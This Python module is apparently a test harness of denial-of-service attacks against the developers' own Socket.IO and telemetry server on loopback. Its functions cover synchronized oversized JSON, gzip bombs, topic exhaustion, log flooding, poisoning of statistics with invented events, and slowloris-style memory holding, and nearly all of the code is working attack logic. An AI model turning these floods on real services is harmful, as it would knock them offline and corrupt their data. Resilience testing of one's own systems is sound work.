"""Attacks with what is easy to get: no credential, a public write key, or the token of an ordinary user.

Each attack is a function that runs in a process of its own until it is killed. It uses a loopback address of its own, so that
limits per address apply to it as to any other client.
"""

import contextlib
import gzip
import itertools
import json
import os
import socket
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass

import websocket

ADDRESS = "127.0.0.66"
HALF_A_SURROGATE = r'"\ud800"'
PAUSE_S = 0.02  # between two attempts of one thread


@dataclass(frozen=True)
class Victim:
    """The port of the server, and the credentials that the attacker has."""

    port: int
    write_key: str
    token: str


def decode(victim: Victim) -> None:
    """Complete a large JSON text on forty connections at the same moment: twenty without a credential, twenty with a write key."""
    text = f"[{HALF_A_SURROGATE},{'[],' * 160_000}[]]"
    _threads(20, _complete_a_large_connect, victim, f"40/realtime,{text}")
    body = f'{{"app":"x","events":{text}}}'.encode()
    _threads(20, _forever, lambda: _post(victim, "/api/telemetry/batch", body, {"X-Write-Key": victim.write_key}))
    _wait()


def rejoin(victim: Victim) -> None:
    """Leave and rejoin the namespace to get a new burst of publishes; and send CONNECTs without a token, to fill the log."""
    _threads(4, _leave_and_join, victim)
    _threads(4, _join_without_a_token, victim)
    _wait()


def topics(victim: Victim) -> None:
    """Publish to thousands of new topics, as a user that may publish under one prefix."""
    for number in itertools.count():
        messages = [{"topic": f"mine:{number}:{each}", "payload": "x", "id": f"{number}:{each}"} for each in range(1000)]
        body = json.dumps({"messages": messages}).encode()
        _post(victim, "/api/realtime/publish", body, {"Authorization": f"Bearer {victim.token}"})
        time.sleep(PAUSE_S)


def inflate(victim: Victim) -> None:
    """Send a few kilobytes of gzip that become half a megabyte in the spool."""
    events = [{"type": "event", "name": "n", "props": {"x": "y" * 30_000}} for _ in range(16)]
    body = gzip.compress(json.dumps({"app": "flooded", "events": events}).encode())
    headers = {"X-Write-Key": victim.write_key, "Content-Encoding": "gzip"}
    _threads(8, _forever, lambda: _post(victim, "/api/telemetry/batch", body, headers))
    _wait()


def invent(victim: Victim) -> None:
    """Send events of invented apps, envs and times, to take the place of the real ones in the statistics."""
    numbers = itertools.count()

    def batch() -> None:
        now, number = time.time() * 1000, next(numbers)
        events = [
            {"type": "event", "name": f"n{each}", "app": f"a{number}-{each}", "env": f"e{each}", "ts": int(now - each * 60_000)}
            for each in range(1000)
        ]
        _post(victim, "/api/telemetry/batch", json.dumps({"events": events}).encode(), {"X-Write-Key": victim.write_key})

    _threads(2, _forever, batch)
    _wait()


def hoard(victim: Victim) -> None:
    """Make the server hold memory: binary events that stay incomplete, and bodies without their last byte."""
    _threads(100, _hold_attachments, victim)
    _threads(400, _hold_a_body, victim)
    _wait()


ATTACKS: dict[str, Callable[[Victim], None]] = {
    "decode": decode,
    "rejoin": rejoin,
    "topics": topics,
    "inflate": inflate,
    "invent": invent,
    "hoard": hoard,
}


def open_websocket(victim: Victim, address: str = ADDRESS, timeout_s: float = 10) -> websocket.WebSocket:
    """Open an Engine.IO session over a websocket, without joining a namespace."""
    url = f"ws://127.0.0.1:{victim.port}/socket.io/?EIO=4&transport=websocket"
    connection = websocket.create_connection(url, timeout=timeout_s, socket=_connect(victim, address))
    connection.recv()
    return connection


def _complete_a_large_connect(victim: Victim, packet: str) -> None:
    frame = _frame(packet)
    while True:
        with contextlib.suppress(Exception):
            connection = open_websocket(victim)
            connection.sock.sendall(frame[:-1])
            time.sleep(max(0.0, 0.5 - time.time() % 0.5))  # all threads at the same moment
            connection.sock.sendall(frame[-1:])
            connection.recv()
        time.sleep(PAUSE_S)


def _leave_and_join(victim: Victim) -> None:
    join = _frame(f'40/realtime,{{"token":"{victim.token}"}}')
    for number in itertools.count():
        with contextlib.suppress(Exception):
            connection = open_websocket(victim)
            while True:
                publish = '42/realtime,["message",{"type":"publish","topic":"mine:1","id":"%d-%d","payload":1}]'
                frames = [_frame(publish % (number, time.time_ns() + each)) for each in range(95)]
                connection.sock.sendall(join + b"".join(frames) + _frame("41/realtime,"))
        time.sleep(PAUSE_S)


def _join_without_a_token(victim: Victim) -> None:
    while True:
        with contextlib.suppress(Exception):
            connection = open_websocket(victim)
            while True:
                connection.sock.sendall(_frame("40/realtime,{}") * 100)
        time.sleep(PAUSE_S)


def _hold_attachments(victim: Victim) -> None:
    attachment = websocket.ABNF.create_frame(bytes(490_000), websocket.ABNF.OPCODE_BINARY).format()
    while True:
        with contextlib.suppress(Exception):
            connection = open_websocket(victim)
            connection.send(f'40/realtime,{{"token":"{victim.token}"}}')
            connection.recv()
            placeholders = ",".join(f'{{"_placeholder":true,"num":{number}}}' for number in range(16))
            connection.send(f'4516-/realtime,["message",{placeholders}]')
            for _ in range(15):
                connection.sock.sendall(attachment)
                time.sleep(0.1)
            while connection.recv():
                pass
        time.sleep(1)


def _hold_a_body(victim: Victim) -> None:
    head = b"POST /api/telemetry/batch HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 511000\r\n\r\n"
    while True:
        with contextlib.suppress(OSError), _connect(victim) as sock:
            sock.sendall(head + bytes(510_999))
            sock.recv(1000)
        time.sleep(1)


def _post(victim: Victim, path: str, body: bytes, headers: dict[str, str]) -> None:
    headers = {"Host": "x", "Content-Type": "application/json", "Content-Length": len(body), "Connection": "close", **headers}
    head = f"POST {path} HTTP/1.1\r\n" + "".join(f"{name}: {value}\r\n" for name, value in headers.items())
    with contextlib.suppress(OSError), _connect(victim) as sock:
        sock.sendall(head.encode() + b"\r\n" + body)
        while sock.recv(65_536):
            pass


def _connect(victim: Victim, address: str = ADDRESS) -> socket.socket:
    return socket.create_connection(("127.0.0.1", victim.port), timeout=30, source_address=(address, 0))


def _frame(packet: str) -> bytes:
    return websocket.ABNF.create_frame(packet, websocket.ABNF.OPCODE_TEXT).format()


def _forever(step: Callable[[], None]) -> None:
    while True:
        step()
        time.sleep(PAUSE_S)


def _threads(count: int, target: Callable, *arguments) -> None:
    for _ in range(count):
        threading.Thread(target=target, args=arguments, daemon=True).start()


def _wait() -> None:
    """Wait until the process is killed or its parent has ended."""
    parent = os.getppid()
    while os.getppid() == parent:
        time.sleep(0.5)
